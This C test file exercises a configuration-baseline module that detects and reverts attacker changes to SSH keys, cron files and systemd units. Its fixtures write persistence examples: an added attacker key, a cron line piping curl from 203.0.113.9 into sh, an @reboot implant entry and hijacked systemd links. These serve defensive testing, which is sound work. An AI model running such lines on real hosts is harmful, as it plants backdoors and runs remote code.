/*
 * test_respond_baseline.c - configuration baselines against a temp root: snapshot, attacker
 * edits to authorized_keys, a cron file and a systemd unit shown as exactly those diff lines,
 * restore to the baseline bytes and mode, approve, an added cron.d file reported and removed
 * (or quarantined through the vault), and the line diff checked by applying it.
 */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include <jansson.h>

#include "agent/respond_baseline.h"
#include "agent/respond_vault.h"
#include "bannin/alloc.h"
#include "bannin/error.h"

static char tmp[64];
static char root[128];
static char bdir[128];
static char vdir[128];

static const char keys0[] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@corp\n";
static const char cron0[] = "SHELL=/bin/sh\n"
                            "PATH=/usr/sbin:/usr/bin\n"
                            "# nightly backup\n"
                            "15 2 * * * root /usr/local/bin/backup --all\n";
static const char unit0[] = "[Unit]\n"
                            "Description=App\n"
                            "After=network.target\n"
                            "\n"
                            "[Service]\n"
                            "User=app\n"
                            "ExecStart=/usr/bin/app --serve\n"
                            "Restart=always\n"
                            "\n"
                            "[Install]\n"
                            "WantedBy=multi-user.target\n";

static void
put(const char *rel, const char *content, mode_t mode)
{
    char p[512];
    snprintf(p, sizeof p, "%s%s", root, rel);
    /* mkdir -p of the parent */
    for (char *s = p + strlen(root) + 1; (s = strchr(s, '/')); s++) {
        *s = '\0';
        mkdir(p, 0755);
        *s = '/';
    }
    FILE *f = fopen(p, "wb");
    assert_non_null(f);
    fputs(content, f);
    fclose(f);
    assert_int_equal(chmod(p, mode), 0);
}

static char *
slurp(const char *rel, size_t *n, struct stat *st)
{
    char p[512];
    snprintf(p, sizeof p, "%s%s", root, rel);
    FILE *f = fopen(p, "rb");
    if (!f)
        return NULL;
    fseek(f, 0, SEEK_END);
    long sz = ftell(f);
    fseek(f, 0, SEEK_SET);
    char *d = malloc((size_t)sz + 1);
    assert_int_equal(fread(d, 1, (size_t)sz, f), (size_t)sz);
    d[sz] = '\0';
    fclose(f);
    *n = (size_t)sz;
    if (st)
        assert_int_equal(stat(p, st), 0);
    return d;
}

static int
setup(void **state)
{
    (void)state;
    snprintf(tmp, sizeof tmp, "/tmp/bn-baseline-XXXXXX");
    if (!mkdtemp(tmp))
        return -1;
    snprintf(root, sizeof root, "%s/root", tmp);
    snprintf(bdir, sizeof bdir, "%s/baseline", tmp);
    snprintf(vdir, sizeof vdir, "%s/vault", tmp);
    mkdir(root, 0755);
    put("/root/.ssh/authorized_keys", keys0, 0600);
    put("/etc/cron.d/backup", cron0, 0644);
    put("/etc/systemd/system/app.service", unit0, 0644);
    put("/etc/shadow", "root:$y$j9T$abc$def:19000:0:99999:7:::\n", 0640);
    put("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0644);
    put("/etc/nothere.conf", "not watched\n", 0644);
    return 0;
}

static int
teardown(void **state)
{
    (void)state;
    char cmd[256];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmp);
    return system(cmd) == 0 ? 0 : -1;
}

typedef int (*action_fn)(struct resp_baseline *, const char *, size_t, struct bn_buf *);

static json_t *
run(struct resp_baseline *m, action_fn fn, const char *params, int want)
{
    struct bn_buf out;
    bn_buf_init(&out, 4 << 20);
    int rc = fn(m, params, strlen(params), &out);
    assert_int_equal(rc, want);
    json_t *r = json_loadb(out.p, out.len, 0, NULL);
    if (!r)
        fail_msg("result is not JSON: %.*s", (int)out.len, out.p);
    bn_buf_release(&out);
    if (want == 0 && !json_is_true(json_object_get(r, "ok")))
        fail_msg("action failed: %s", json_string_value(json_object_get(r, "error")));
    return r;
}

/* Runs an action that must run (rc 0) and fail (ok false). */
static json_t *
run_nok(struct resp_baseline *m, action_fn fn, const char *path)
{
    char params[512];
    snprintf(params, sizeof params, "{\"path\":\"%s\"}", path);
    struct bn_buf out;
    bn_buf_init(&out, 1 << 20);
    assert_int_equal(fn(m, params, strlen(params), &out), 0);
    json_t *r = json_loadb(out.p, out.len, 0, NULL);
    assert_non_null(r);
    bn_buf_release(&out);
    assert_false(json_is_true(json_object_get(r, "ok")));
    return r;
}

static json_t *
run_path(struct resp_baseline *m, action_fn fn, const char *path)
{
    char params[512];
    snprintf(params, sizeof params, "{\"path\":\"%s\"}", path);
    return run(m, fn, params, 0);
}

static struct resp_baseline *
open_store(void)
{
    struct respond_paths paths = {.state_dir = tmp, .baseline_dir = bdir};
    struct resp_baseline *m;
    assert_int_equal(resp_baseline_new(&m, &paths), 0);
    assert_int_equal(resp_baseline_set_root(m, root), 0);
    return m;
}

/* The +/- lines of a unified diff, in order, joined with '\n'. */
static void
changed_lines(const char *diff, char *out, size_t cap)
{
    out[0] = '\0';
    size_t used = 0;
    for (const char *l = diff; *l;) {
        const char *e = strchr(l, '\n');
        size_t n = e ? (size_t)(e - l) : strlen(l);
        if ((l[0] == '+' || l[0] == '-') && strncmp(l, "+++", 3) != 0 &&
            strncmp(l, "---", 3) != 0) {
            used += (size_t)snprintf(out + used, cap - used, "%.*s\n", (int)n, l);
        }
        l += n + (e ? 1 : 0);
    }
}

static bool
in_array(json_t *arr, const char *s)
{
    size_t i;
    json_t *v;
    json_array_foreach(arr, i, v)
    {
        const char *p = json_is_string(v) ? json_string_value(v)
                                          : json_string_value(json_object_get(v, "path"));
        if (p && strcmp(p, s) == 0)
            return true;
    }
    return false;
}

static void
test_attack_and_restore(void **state)
{
    (void)state;
    struct resp_baseline *m = open_store();
    assert_int_equal(resp_baseline_count(m), 0);
    json_t *r = run(m, resp_baseline_snapshot, "{}", 0);
    assert_int_equal(json_integer_value(json_object_get(r, "files")), 5);
    json_decref(r);
    assert_int_equal(resp_baseline_count(m), 5);

    r = run(m, resp_baseline_list, "{}", 0);
    assert_int_equal(json_array_size(json_object_get(r, "changed")), 0);
    assert_int_equal(json_array_size(json_object_get(r, "added")), 0);
    assert_true(in_array(json_object_get(r, "files"), "/etc/cron.d/backup"));
    assert_false(in_array(json_object_get(r, "files"), "/etc/nothere.conf"));
    json_decref(r);

    /* the attacker: a key appended, a cron line added, ExecStart changed, a new cron file */
    char attack[1024];
    snprintf(attack, sizeof attack, "%sssh-rsa AAAAB3NzaC1yc2EAAAADAQABevil mallory@x\n", keys0);
    put("/root/.ssh/authorized_keys", attack, 0644);
    snprintf(attack, sizeof attack, "%s* * * * * root curl -s http://203.0.113.9/x | sh\n", cron0);
    put("/etc/cron.d/backup", attack, 0644);
    put("/etc/systemd/system/app.service",
        "[Unit]\nDescription=App\nAfter=network.target\n\n[Service]\nUser=app\n"
        "ExecStart=/tmp/.x/app --serve\nRestart=always\n\n[Install]\nWantedBy=multi-user."
        "target\n",
        0644);
    put("/etc/cron.d/persist", "@reboot root /tmp/.x/implant\n", 0644);

    r = run(m, resp_baseline_list, "{}", 0);
    json_t *changed = json_object_get(r, "changed");
    assert_int_equal(json_array_size(changed), 3);
    assert_true(in_array(changed, "/root/.ssh/authorized_keys"));
    assert_true(in_array(changed, "/etc/cron.d/backup"));
    assert_true(in_array(changed, "/etc/systemd/system/app.service"));
    assert_int_equal(json_array_size(json_object_get(r, "added")), 1);
    assert_true(in_array(json_object_get(r, "added"), "/etc/cron.d/persist"));
    json_decref(r);

    char lines[4096];
    r = run_path(m, resp_baseline_diff, "/root/.ssh/authorized_keys");
    assert_string_equal(json_string_value(json_object_get(r, "status")), "changed");
    changed_lines(json_string_value(json_object_get(r, "diff")), lines, sizeof lines);
    assert_string_equal(lines, "+ssh-rsa AAAAB3NzaC1yc2EAAAADAQABevil mallory@x\n");
    json_t *meta = json_object_get(r, "meta");
    assert_int_equal(json_array_size(meta), 1);
    assert_string_equal(json_string_value(json_object_get(json_array_get(meta, 0), "field")),
                        "mode");
    assert_string_equal(json_string_value(json_object_get(json_array_get(meta, 0), "current")),
                        "0644");
    json_decref(r);

    r = run_path(m, resp_baseline_diff, "/etc/cron.d/backup");
    changed_lines(json_string_value(json_object_get(r, "diff")), lines, sizeof lines);
    assert_string_equal(lines, "+* * * * * root curl -s http://203.0.113.9/x | sh\n");
    assert_non_null(strstr(json_string_value(json_object_get(r, "diff")),
                           "--- /etc/cron.d/backup (baseline)\n"));
    json_decref(r);

    r = run_path(m, resp_baseline_diff, "/etc/systemd/system/app.service");
    const char *diff = json_string_value(json_object_get(r, "diff"));
    changed_lines(diff, lines, sizeof lines);
    assert_string_equal(lines, "-ExecStart=/usr/bin/app --serve\n+ExecStart=/tmp/.x/app --serve\n");
    assert_non_null(strstr(diff, "@@ -4,7 +4,7 @@\n \n [Service]\n User=app\n"));
    json_decref(r);

    r = run_path(m, resp_baseline_diff, "/etc/cron.d/persist");
    assert_string_equal(json_string_value(json_object_get(r, "status")), "added");
    changed_lines(json_string_value(json_object_get(r, "diff")), lines, sizeof lines);
    assert_string_equal(lines, "+@reboot root /tmp/.x/implant\n");
    json_decref(r);

    /* restore: baseline bytes and mode back */
    const char *paths[] = {"/root/.ssh/authorized_keys", "/etc/cron.d/backup",
                           "/etc/systemd/system/app.service"};
    const char *want[] = {keys0, cron0, unit0};
    const mode_t modes[] = {0600, 0644, 0644};
    for (int i = 0; i < 3; i++) {
        r = run_path(m, resp_baseline_restore, paths[i]);
        assert_string_equal(json_string_value(json_object_get(r, "action")), "restored");
        json_decref(r);
        size_t n;
        struct stat st;
        char *d = slurp(paths[i], &n, &st);
        assert_non_null(d);
        assert_int_equal(n, strlen(want[i]));
        assert_memory_equal(d, want[i], n);
        assert_int_equal(st.st_mode & 07777, modes[i]);
        free(d);
        r = run_path(m, resp_baseline_diff, paths[i]);
        assert_string_equal(json_string_value(json_object_get(r, "status")), "unchanged");
        assert_string_equal(json_string_value(json_object_get(r, "diff")), "");
        json_decref(r);
    }
    /* the added cron file is removed; no temp files are left behind */
    r = run_path(m, resp_baseline_restore, "/etc/cron.d/persist");
    assert_string_equal(json_string_value(json_object_get(r, "action")), "removed");
    json_decref(r);
    size_t n;
    assert_null(slurp("/etc/cron.d/persist", &n, NULL));
    char cmd[512];
    snprintf(cmd, sizeof cmd, "test -z \"$(ls -A '%s/etc/cron.d' | grep -v '^backup$')\"", root);
    assert_int_equal(system(cmd), 0);

    r = run(m, resp_baseline_list, "{}", 0);
    assert_int_equal(json_array_size(json_object_get(r, "changed")), 0);
    assert_int_equal(json_array_size(json_object_get(r, "added")), 0);
    json_decref(r);

    /* a removed file comes back */
    char p[512];
    snprintf(p, sizeof p, "%s/etc/cron.d/backup", root);
    unlink(p);
    r = run_path(m, resp_baseline_diff, "/etc/cron.d/backup");
    assert_string_equal(json_string_value(json_object_get(r, "status")), "removed");
    json_decref(r);
    r = run_path(m, resp_baseline_restore, "/etc/cron.d/backup");
    json_decref(r);
    char *d = slurp("/etc/cron.d/backup", &n, NULL);
    assert_non_null(d);
    assert_string_equal(d, cron0);
    free(d);
    resp_baseline_free(m);
}

static void
test_approve_and_reload(void **state)
{
    (void)state;
    struct resp_baseline *m = open_store();
    json_decref(run(m, resp_baseline_snapshot, "{}", 0));
    char edited[1024];
    snprintf(edited, sizeof edited, "%s30 3 * * 0 root /usr/local/bin/backup --verify\n", cron0);
    put("/etc/cron.d/backup", edited, 0640);
    json_t *r = run_path(m, resp_baseline_approve, "/etc/cron.d/backup");
    assert_string_equal(json_string_value(json_object_get(r, "action")), "approved");
    json_decref(r);
    r = run_path(m, resp_baseline_diff, "/etc/cron.d/backup");
    assert_string_equal(json_string_value(json_object_get(r, "status")), "unchanged");
    assert_string_equal(json_string_value(json_object_get(r, "diff")), "");
    assert_int_equal(json_array_size(json_object_get(r, "meta")), 0);
    json_decref(r);
    /* the superseded copy is gone: one object per distinct baselined content */
    char cmd[512];
    snprintf(cmd, sizeof cmd, "test $(ls '%s/objects' | wc -l) = 5", bdir);
    assert_int_equal(system(cmd), 0);
    /* an approved new file joins the baseline */
    put("/etc/cron.d/logrotate2", "0 4 * * * root logrotate\n", 0644);
    json_decref(run_path(m, resp_baseline_approve, "/etc/cron.d/logrotate2"));
    resp_baseline_free(m);

    /* the index persists: a new agent sees the approved state */
    m = open_store();
    r = run(m, resp_baseline_list, "{}", 0);
    assert_int_equal(json_array_size(json_object_get(r, "changed")), 0);
    assert_int_equal(json_array_size(json_object_get(r, "added")), 0);
    assert_int_equal(json_integer_value(json_object_get(r, "baselined")), 6);
    json_decref(r);
    put("/etc/cron.d/backup", cron0, 0644);
    json_decref(run_path(m, resp_baseline_restore, "/etc/cron.d/backup"));
    size_t n;
    struct stat st;
    char *d = slurp("/etc/cron.d/backup", &n, &st);
    assert_string_equal(d, edited);
    assert_int_equal(st.st_mode & 07777, 0640);
    free(d);
    resp_baseline_free(m);
}

static void
test_vault_and_secrets(void **state)
{
    (void)state;
    struct resp_baseline *m = open_store();
    struct respond_paths vp = {.state_dir = tmp, .vault_dir = vdir};
    struct resp_vault *v;
    assert_int_equal(resp_vault_new(&v, &vp), 0);
    resp_baseline_set_vault(m, v);
    json_decref(run(m, resp_baseline_snapshot, "{}", 0));

    put("/etc/cron.d/persist", "@reboot root /tmp/.x/implant\n", 0755);
    json_t *r = run_path(m, resp_baseline_restore, "/etc/cron.d/persist");
    assert_string_equal(json_string_value(json_object_get(r, "action")), "quarantined");
    assert_non_null(json_string_value(json_object_get(r, "vault_id")));
    json_decref(r);
    size_t n;
    assert_null(slurp("/etc/cron.d/persist", &n, NULL));
    struct bn_buf out;
    bn_buf_init(&out, 1 << 20);
    assert_int_equal(resp_vault_list(v, "{}", 2, &out), 0);
    assert_non_null(strstr(out.p, "/etc/cron.d/persist"));
    bn_buf_release(&out);

    /* shadow: the hash field never appears in a diff */
    put("/etc/shadow", "root:$y$j9T$NEWHASH$zzz:19001:0:99999:7:::\n", 0640);
    r = run_path(m, resp_baseline_diff, "/etc/shadow");
    const char *diff = json_string_value(json_object_get(r, "diff"));
    assert_null(strstr(diff, "abc$def"));
    assert_null(strstr(diff, "NEWHASH"));
    assert_non_null(strstr(diff, "-root:<redacted>:19000:"));
    assert_non_null(strstr(diff, "+root:<redacted>:19001:"));
    json_decref(r);

    /* bad params and paths outside the watch list */
    r = run(m, resp_baseline_diff, "{\"path\":\"/etc/nothere.conf\"}", BN_EINVAL);
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")), "watch list"));
    json_decref(r);
    json_decref(run(m, resp_baseline_restore, "{\"path\":\"/etc/cron.d/../shadow\"}", BN_EINVAL));
    json_decref(run(m, resp_baseline_diff, "{}", BN_EINVAL));
    json_decref(run(m, resp_baseline_diff, "{\"path\":", BN_EINVAL));

    /* a damaged baseline copy is refused, not restored */
    char cmd[512];
    snprintf(cmd, sizeof cmd,
             "for f in '%s'/objects/*; do chmod 600 \"$f\"; "
             "printf X >> \"$f\"; done",
             bdir);
    assert_int_equal(system(cmd), 0);
    put("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n", 0644);
    r = run_nok(m, resp_baseline_restore, "/etc/passwd");
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")), "corrupt"));
    json_decref(r);
    resp_baseline_free(m);
    resp_vault_free(v);
}

static void
test_symlinks(void **state)
{
    (void)state;
    char wants[256], link[512], evil[512], got[512];
    snprintf(wants, sizeof wants, "%s/etc/systemd/system/multi-user.target.wants", root);
    assert_int_equal(mkdir(wants, 0755), 0);
    snprintf(link, sizeof link, "%s/app.service", wants);
    assert_int_equal(symlink("/etc/systemd/system/app.service", link), 0);
    struct resp_baseline *m = open_store();
    struct respond_paths vp = {.state_dir = tmp, .vault_dir = vdir};
    struct resp_vault *v;
    assert_int_equal(resp_vault_new(&v, &vp), 0);
    resp_baseline_set_vault(m, v);
    json_decref(run(m, resp_baseline_snapshot, "{}", 0));

    /* the attacker re-points an enablement link and enables a new timer by a link */
    unlink(link);
    assert_int_equal(symlink("/tmp/.x/evil.service", link), 0);
    snprintf(evil, sizeof evil, "%s/etc/systemd/system/timers.target.wants", root);
    assert_int_equal(mkdir(evil, 0755), 0);
    snprintf(evil, sizeof evil, "%s/etc/systemd/system/timers.target.wants/evil.timer", root);
    assert_int_equal(symlink("/tmp/.x/evil.timer", evil), 0);

    json_t *r = run(m, resp_baseline_list, "{}", 0);
    assert_true(in_array(json_object_get(r, "changed"),
                         "/etc/systemd/system/multi-user.target.wants/app.service"));
    assert_true(in_array(json_object_get(r, "added"),
                         "/etc/systemd/system/timers.target.wants/evil.timer"));
    json_decref(r);
    r = run_path(m, resp_baseline_diff, "/etc/systemd/system/multi-user.target.wants/app.service");
    char lines[1024];
    changed_lines(json_string_value(json_object_get(r, "diff")), lines, sizeof lines);
    assert_string_equal(lines, "-/etc/systemd/system/app.service\n+/tmp/.x/evil.service\n");
    json_decref(r);

    json_decref(run_path(m, resp_baseline_restore,
                         "/etc/systemd/system/multi-user.target.wants/app.service"));
    ssize_t n = readlink(link, got, sizeof got - 1);
    assert_true(n > 0);
    got[n] = '\0';
    assert_string_equal(got, "/etc/systemd/system/app.service");
    r = run_path(m, resp_baseline_restore, "/etc/systemd/system/timers.target.wants/evil.timer");
    assert_string_equal(json_string_value(json_object_get(r, "action")), "removed");
    json_decref(r);
    struct stat st;
    assert_int_equal(lstat(evil, &st), -1);
    r = run(m, resp_baseline_list, "{}", 0);
    assert_int_equal(json_array_size(json_object_get(r, "changed")), 0);
    assert_int_equal(json_array_size(json_object_get(r, "added")), 0);
    json_decref(r);
    resp_baseline_free(m);
    resp_vault_free(v);
}

/* Applies a unified diff to a; returns the result (malloc) or NULL when it does not apply. */
static char *
apply(const char *a, const char *diff)
{
    const char *al[4096];
    size_t alen[4096], na = 0;
    for (const char *p = a; *p;) {
        const char *e = strchr(p, '\n');
        size_t n = e ? (size_t)(e - p) + 1 : strlen(p);
        al[na] = p;
        alen[na++] = n;
        p += n;
    }
    size_t cap = strlen(a) + strlen(diff) + 1, used = 0, ai = 0;
    char *out = malloc(cap);
    const char *p = strstr(diff, "\n@@ ");
    p = p ? p + 1 : diff + strlen(diff); /* past the ---/+++ header */
    while (*p) {
        const char *e = strchr(p, '\n');
        size_t n = (size_t)(e - p) + 1;
        if (strncmp(p, "@@ -", 4) == 0) {
            unsigned long s = strtoul(p + 4, NULL, 10);
            size_t start = s ? s - 1 : 0;
            const char *comma = strchr(p + 4, ',');
            if (comma && strtoul(comma + 1, NULL, 10) == 0)
                start = s;
            while (ai < start) {
                memcpy(out + used, al[ai], alen[ai]);
                used += alen[ai++];
            }
        } else if (p[0] == ' ' || p[0] == '-') {
            if (ai >= na || alen[ai] < n - 1 || memcmp(al[ai], p + 1, n - 1) != 0) {
                free(out);
                return NULL;
            }
            if (p[0] == ' ')
                memcpy(out + used, al[ai], alen[ai]), used += alen[ai];
            ai++;
        } else if (p[0] == '+') {
            memcpy(out + used, p + 1, n - 1);
            used += n - 1;
        }
        p = e + 1;
    }
    while (ai < na) {
        memcpy(out + used, al[ai], alen[ai]);
        used += alen[ai++];
    }
    out[used] = '\0';
    return out;
}

static void
test_diff_applies(void **state)
{
    (void)state;
    struct resp_baseline *m = open_store();
    srand(7);
    char a[8192], b[8192];
    for (int iter = 0; iter < 150; iter++) {
        size_t la = 0, lb = 0;
        int na = rand() % 60, nb = rand() % 60;
        for (int i = 0; i < na; i++)
            la += (size_t)snprintf(a + la, sizeof a - la, "line %d\n", rand() % 12);
        for (int i = 0; i < nb; i++)
            lb += (size_t)snprintf(b + lb, sizeof b - lb, "line %d\n", rand() % 12);
        if (iter % 3 == 0) { /* b as a mutation of a */
            memcpy(b, a, la + 1);
            lb = la;
            if (la > 20) {
                b[la / 2] = '\n';
                b[la / 3] = 'X';
            }
        }
        put("/etc/crontab", a, 0644);
        json_decref(run(m, resp_baseline_snapshot, "{}", 0));
        put("/etc/crontab", b, 0644);
        json_t *r = run_path(m, resp_baseline_diff, "/etc/crontab");
        const char *diff = json_string_value(json_object_get(r, "diff"));
        if (strcmp(a, b) == 0) {
            assert_string_equal(diff, "");
        } else {
            char *got = apply(a, diff);
            if (!got || strcmp(got, b) != 0)
                fail_msg("diff does not apply (iteration %d):\n%s", iter, diff);
            free(got);
        }
        json_decref(r);
    }
    resp_baseline_free(m);
}

static void
test_oom(void **state)
{
    (void)state;
    struct resp_baseline *m = open_store();
    json_decref(run(m, resp_baseline_snapshot, "{}", 0));
    put("/etc/cron.d/backup", "changed\n", 0644);
    for (unsigned long k = 1; k < 200; k++) {
        struct bn_buf out;
        bn_buf_init(&out, 1 << 20);
        bn_alloc_fail_after(k);
        int rc = resp_baseline_diff(m, "{\"path\":\"/etc/cron.d/backup\"}", 29, &out);
        bn_alloc_fail_after(0);
        bn_buf_release(&out);
        if (rc == 0)
            break;
        assert_int_equal(rc, BN_ENOMEM);
    }
    /* restore under allocation failures: the file is the attacked one or the baseline,
     * never partial, and no temp file is left */
    for (unsigned long k = 1;; k++) {
        assert_true(k < 200);
        struct bn_buf out;
        bn_buf_init(&out, 1 << 20);
        bn_alloc_fail_after(k);
        int rc = resp_baseline_restore(m, "{\"path\":\"/etc/cron.d/backup\"}", 29, &out);
        bn_alloc_fail_after(0);
        bn_buf_release(&out);
        size_t n;
        char *d = slurp("/etc/cron.d/backup", &n, NULL);
        assert_non_null(d);
        char cmd[512];
        snprintf(cmd, sizeof cmd, "test $(ls -A '%s/etc/cron.d' | wc -l) = 1", root);
        assert_int_equal(system(cmd), 0);
        if (rc == 0) {
            assert_string_equal(d, cron0);
            free(d);
            break;
        }
        assert_int_equal(rc, BN_ENOMEM);
        assert_true(strcmp(d, "changed\n") == 0 || strcmp(d, cron0) == 0);
        free(d);
    }
    resp_baseline_free(m);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_attack_and_restore, setup, teardown),
        cmocka_unit_test_setup_teardown(test_approve_and_reload, setup, teardown),
        cmocka_unit_test_setup_teardown(test_vault_and_secrets, setup, teardown),
        cmocka_unit_test_setup_teardown(test_symlinks, setup, teardown),
        cmocka_unit_test_setup_teardown(test_diff_applies, setup, teardown),
        cmocka_unit_test_setup_teardown(test_oom, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
